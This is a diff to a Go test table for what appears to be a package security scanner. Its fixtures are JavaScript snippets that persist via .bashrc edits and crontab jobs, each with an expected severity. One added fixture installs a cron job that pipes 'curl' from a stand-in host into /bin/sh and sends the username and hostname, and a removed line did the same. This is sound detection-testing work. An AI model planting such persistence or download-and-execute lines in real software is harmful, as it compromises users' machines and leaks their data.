@@ -55,7 +55,14 @@ fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), SNIPPET)`}, fin
 		{"bashrc_sudo_alias", map[string]string{"index.js": `const fs = require("fs"), path = require("path"); fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), "alias sudo='sudo '\n")`}, finding.SeverityHigh},
 		// crontab fed a job by a library at load, by a scheduler's
 		// subcommand, and only listed
-		{"crontab_on_load", map[string]string{"index.js": `require("child_process").spawnSync("crontab", ["-"], { input: "*/5 * * * * curl -s https://c.example.invalid/x | sh" })`}, finding.SeverityHigh},
+		{"crontab_on_load", map[string]string{"index.js": `require("child_process").spawnSync("crontab", ["-"], { input: "*/5 * * * * echo tick >> /tmp/t.log" })`}, finding.SeverityHigh},
+		// the job a download piped into a shell, its URL filled in at run time
+		{"crontab_download_job", map[string]string{"index.js": "const u = require(\"os\").userInfo().username; require(\"child_process\").spawnSync(\"crontab\", [\"-\"], { input: `*/5 * * * * curl -s \"https://c.example.invalid/x?u=${u}&h=$(hostname)\" | /bin/sh` })"}, finding.SeverityCritical},
+		// the crontab edited by the command through the main module
+		{"crontab_by_subcommand_via_main", map[string]string{"package.json": rt.Pkg(`"bin":{"cronx":"cli.js"},"main":"index.js"`),
+			"cli.js":         `const lib = require("./index"); if (process.argv[2] === "add") lib.crontab.add(process.argv[3])`,
+			"index.js":       `module.exports = { crontab: require("./lib/crontab") }`,
+			"lib/crontab.js": `const { spawnSync } = require("child_process"); exports.add = (line) => spawnSync("crontab", ["-"], { input: line })`}, finding.SeverityMedium},
 		{"crontab_by_subcommand", map[string]string{"package.json": rt.Pkg(`"bin":{"cronsync":"bin/cli.js"},"main":"lib/index.js"`),
 			"bin/cli.js":   `const c = require("../lib/index"); if (process.argv[2] === "install") c.install()`,
 			"lib/index.js": `const { spawnSync } = require("child_process"); exports.install = () => spawnSync("crontab", ["-"], { input: require("./jobs").render() })`}, finding.SeverityMedium},
